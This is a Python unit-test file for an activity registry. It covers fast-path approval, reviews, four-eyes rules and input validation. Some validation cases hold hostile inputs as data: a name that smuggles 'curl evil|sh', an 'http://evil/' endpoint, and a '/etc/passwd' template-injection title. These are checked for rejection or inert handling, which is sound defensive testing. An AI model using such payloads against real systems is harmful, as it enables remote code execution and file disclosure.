"""Activities: registered with all or nothing, approved by the fast path or by somebody who is not of them."""

from __future__ import annotations

from datetime import datetime, timedelta
from typing import Any

import pytest

from jit_engine.domain.activity import ActivityState, EnvironmentState
from jit_engine.domain.ids import ActivityId, ContractId, ReviewId
from jit_engine.domain.subject import Person
from jit_engine.domain.tier import Tier
from jit_engine.errors import InvalidValue, NotFound, WrongState
from platform_api.registry.activities import ActivityDesk, ReviewDecision
from platform_api.registry.errors import (
    EnvironmentExists,
    FourEyes,
    NameTaken,
    NotTheOwner,
    OrderInvalid,
    PeopleOnly,
)
from platform_api.registry.records import ReviewState
from tests.fakes.registry import MemoryRegistry
from tests.unit.registry.sample import ADA, ARCHIE, BEN, LIMITS, NOW, PIPELINE, login, order, organisation, sequence


def desk(digest: str = "d1") -> tuple[ActivityDesk, MemoryRegistry]:
    store = organisation()
    return ActivityDesk(store=store, new_id=sequence(), limits=LIMITS, template_digest=digest), store


def test_the_fast_path_approves_in_the_same_write() -> None:
    at, store = desk()
    made = at.register(ADA, order(), NOW)
    assert made.activity.activity.state is ActivityState.ACTIVE
    assert made.activity.activity.members == {ADA.id, BEN.id, PIPELINE.id}
    assert made.environment.environment.state is EnvironmentState.APPROVED
    assert made.environment.environment.tier is Tier.RESEARCH
    assert made.environment.due_at == NOW
    assert made.review.state is ReviewState.APPROVED
    assert made.review.decided_by is None
    assert len(made.review.criteria) == 7
    (event,) = store.events
    assert event.action == "activity.registered"
    assert event.details["notMet"] == []
    assert store.activity_named("loan-losses") == made.activity


def test_what_the_fast_path_does_not_approve_waits_with_its_failed_criteria() -> None:
    at, store = desk()
    made = at.register(ADA, order(monthly_budget_usd=5000, recipients=("partner.example",)), NOW)
    assert made.activity.activity.state is ActivityState.SUBMITTED
    assert made.environment.environment.state is EnvironmentState.SUBMITTED
    assert made.environment.due_at is None
    assert made.review.state is ReviewState.OPEN
    assert [one.id for one in made.review.criteria] == ["within-limits", "no-external-sharing"]
    assert made.review.due_at == NOW + timedelta(days=7)
    assert store.events[0].details["notMet"] == ["within-limits", "no-external-sharing"]


def test_a_preview_decides_as_the_registration_and_stores_nothing() -> None:
    at, store = desk()
    for asked in (order(), order(monthly_budget_usd=5000)):
        before = len(store.events)
        foretold, criteria = at.decided(ADA, asked, NOW)
        assert len(criteria) == 7
        assert store.activity_named(asked.name) is None
        assert len(store.events) == before
        made = desk()[0].register(ADA, asked, NOW)
        assert (foretold.review.state, foretold.review.criteria) == (made.review.state, made.review.criteria)


def test_a_template_that_was_changed_since_its_review_is_not_on_the_fast_path() -> None:
    at, _ = desk(digest="d2")
    assert [one.id for one in at.register(ADA, order(), NOW).review.criteria] == ["catalogued-template"]


@pytest.mark.parametrize(
    ("changes", "path"),
    [
        ({"name": "a;curl evil|sh"}, "$.name"),
        ({"name": "Loans"}, "$.name"),
        ({"name": "loans\n"}, "$.name"),
        ({"name": "ӏoans"}, "$.name"),
        ({"name": "a" * 64}, "$.name"),
        ({"title": ""}, "$.title"),
        ({"title": "a\x1b[31m"}, "$.title"),
        ({"owner": "nobody@acme.example"}, "$.owner"),
        ({"owner": login(PIPELINE)}, "$.owner"),
        ({"members": ("nobody@acme.example",)}, "$.members[0]"),
        ({"members": (login(BEN), login(BEN))}, "$.members"),
        ({"purposes": frozenset()}, "$.purposes"),
        ({"purposes": frozenset({"acme:whim"})}, "$.purposes"),
        ({"contracts": (ContractId("co_" + "0" * 26),)}, "$.contracts"),
        ({"cost_center": "CC 4711"}, "$.cost_center"),
        ({"monthly_budget_usd": -1}, "$.monthly_budget_usd"),
        ({"ends_at": NOW}, "$.ends_at"),
        ({"ends_at": NOW + timedelta(days=1200)}, "$.ends_at"),
        ({"ends_at": datetime(2027, 1, 1)}, "$.ends_at"),  # noqa: DTZ001
        ({"public_endpoints": ("http://evil/",)}, "$.public_endpoints[0]"),
    ],
)
def test_a_bad_order_is_refused_at_its_field_and_nothing_is_written(changes: dict[str, Any], path: str) -> None:
    at, store = desk()
    with pytest.raises(OrderInvalid) as caught:
        at.register(ADA, order(**changes), NOW)
    assert [problem.path for problem in caught.value.problems] == [path]
    assert store.events == []


def test_all_problems_of_an_order_are_told_at_once() -> None:
    at, _ = desk()
    with pytest.raises(OrderInvalid) as caught:
        at.register(ADA, order(name="X", title="", cost_center="", owner="nobody"), NOW)
    assert [p.path for p in caught.value.problems] == ["$.name", "$.title", "$.cost_center", "$.owner"]


def test_a_title_is_text_whatever_it_looks_like() -> None:
    at, _ = desk()
    title = '${file("/etc/passwd")}'
    assert at.register(ADA, order(title=title), NOW).activity.activity.title == title


def test_a_member_may_register_for_the_owner_and_a_stranger_may_not() -> None:
    at, _ = desk()
    with pytest.raises(NotTheOwner):
        at.register(ARCHIE, order(), NOW)
    assert at.register(BEN, order(), NOW).activity.activity.owner == ADA.id


def test_a_pipeline_registers_nothing() -> None:
    at, _ = desk()
    with pytest.raises(PeopleOnly):
        at.register(PIPELINE, order(), NOW)


def test_a_name_is_used_once() -> None:
    at, _ = desk()
    at.register(ADA, order(), NOW)
    with pytest.raises(NameTaken):
        at.register(BEN, order(), NOW)


def test_an_operation_environment_waits_for_the_architect() -> None:
    at, store = desk()
    activity = at.register(ADA, order(), NOW).activity.activity.id
    made = at.request_environment(ADA, activity, Tier.OPERATION, NOW)
    assert made.review.state is ReviewState.OPEN
    assert [one.id for one in made.review.criteria] == ["read-only-tier"]
    decided = at.decide(ARCHIE, made.review.id, ReviewDecision.APPROVE, "headless, one target", NOW)
    assert decided.environment.environment.state is EnvironmentState.APPROVED
    stored = store.environment(made.environment.environment.id)
    assert stored is not None
    assert stored.due_at == NOW
    assert [event.action for event in store.events] == [
        "activity.registered",
        "environment.requested",
        "review.approved",
    ]


def test_a_later_environment_remembers_what_the_activity_asked_for() -> None:
    at, _ = desk()
    made = at.register(ADA, order(public_endpoints=("packages.example",)), NOW)
    at.decide(ARCHIE, made.review.id, ReviewDecision.APPROVE, "a mirror", NOW)
    later = at.request_environment(ADA, made.activity.activity.id, Tier.VALIDATION, NOW)
    assert [one.id for one in later.review.criteria] == ["no-new-network-path"]


def test_a_tier_is_there_once_unless_it_was_rejected() -> None:
    at, _ = desk()
    activity = at.register(ADA, order(), NOW).activity.activity.id
    with pytest.raises(EnvironmentExists):
        at.request_environment(ADA, activity, Tier.RESEARCH, NOW)
    made = at.request_environment(BEN, activity, Tier.OPERATION, NOW)
    at.decide(ARCHIE, made.review.id, ReviewDecision.REJECT, "not yet", NOW)
    assert at.request_environment(BEN, activity, Tier.OPERATION, NOW).review.state is ReviewState.OPEN


def test_environments_are_for_members_of_active_activities() -> None:
    at, _ = desk()
    waiting = at.register(ADA, order(monthly_budget_usd=5000), NOW).activity.activity.id
    with pytest.raises(WrongState, match="submitted"):
        at.request_environment(ADA, waiting, Tier.VALIDATION, NOW)
    active = at.register(ADA, order(name="other"), NOW).activity.activity
    with pytest.raises(NotTheOwner):
        at.request_environment(ARCHIE, active.id, Tier.VALIDATION, NOW)
    with pytest.raises(WrongState, match="over"):
        at.request_environment(ADA, active.id, Tier.VALIDATION, active.ends_at)
    with pytest.raises(NotFound):
        at.request_environment(ADA, ActivityId("ac_" + "0" * 26), Tier.VALIDATION, NOW)


def test_an_approved_review_makes_the_activity_active() -> None:
    at, store = desk()
    made = at.register(ADA, order(monthly_budget_usd=5000), NOW)
    at.decide(ARCHIE, made.review.id, ReviewDecision.APPROVE, "worth it", NOW)
    found = store.activity(made.activity.activity.id)
    assert found is not None
    assert found.activity.state is ActivityState.ACTIVE


def test_a_rejected_review_ends_activity_and_environment() -> None:
    at, store = desk()
    made = at.register(ADA, order(monthly_budget_usd=5000), NOW)
    decided = at.decide(ARCHIE, made.review.id, ReviewDecision.REJECT, "too much", NOW)
    assert decided.activity.activity.state is ActivityState.REJECTED
    assert decided.environment.environment.state is EnvironmentState.REJECTED
    assert store.events[-1].action == "review.rejected"
    with pytest.raises(WrongState, match="decided"):
        at.decide(ARCHIE, made.review.id, ReviewDecision.APPROVE, "after all", NOW)


@pytest.mark.parametrize("who", [ADA, BEN])
@pytest.mark.case("PROV-008")
def test_nobody_decides_about_their_own_activity(who: Person) -> None:
    at, _ = desk()
    made = at.register(BEN, order(monthly_budget_usd=5000), NOW)
    with pytest.raises(FourEyes):
        at.decide(who, made.review.id, ReviewDecision.APPROVE, "fine", NOW)


@pytest.mark.case("PROV-008")
def test_an_architect_who_registered_it_does_not_decide() -> None:
    at, _ = desk()
    made = at.register(ARCHIE, order(members=(login(ARCHIE),), monthly_budget_usd=5000), NOW)
    with pytest.raises(FourEyes):
        at.decide(ARCHIE, made.review.id, ReviewDecision.APPROVE, "fine", NOW)


@pytest.mark.parametrize("of", [ADA, BEN])
@pytest.mark.case("PROV-008")
def test_a_second_login_of_its_author_or_of_a_member_does_not_decide(of: Person) -> None:
    store = organisation(logins_of={ARCHIE.id: of.id})
    at = ActivityDesk(store=store, new_id=sequence(), limits=LIMITS, template_digest="d1")
    made = at.register(ADA, order(monthly_budget_usd=5000), NOW)
    with pytest.raises(FourEyes):
        at.decide(ARCHIE, made.review.id, ReviewDecision.APPROVE, "fine", NOW)


def test_a_decision_needs_a_person_a_reason_and_a_review() -> None:
    at, _ = desk()
    made = at.register(ADA, order(monthly_budget_usd=5000), NOW)
    with pytest.raises(PeopleOnly):
        at.decide(PIPELINE, made.review.id, ReviewDecision.APPROVE, "fine", NOW)
    with pytest.raises(InvalidValue, match="say why"):
        at.decide(ARCHIE, made.review.id, ReviewDecision.APPROVE, "  ", NOW)
    with pytest.raises(NotFound):
        at.decide(ARCHIE, ReviewId("rv_" + "0" * 26), ReviewDecision.APPROVE, "fine", NOW)


def test_an_activity_that_is_over_is_not_approved() -> None:
    at, _ = desk()
    made = at.register(ADA, order(monthly_budget_usd=5000), NOW)
    with pytest.raises(WrongState, match="over"):
        at.decide(ARCHIE, made.review.id, ReviewDecision.APPROVE, "late", made.activity.activity.ends_at)
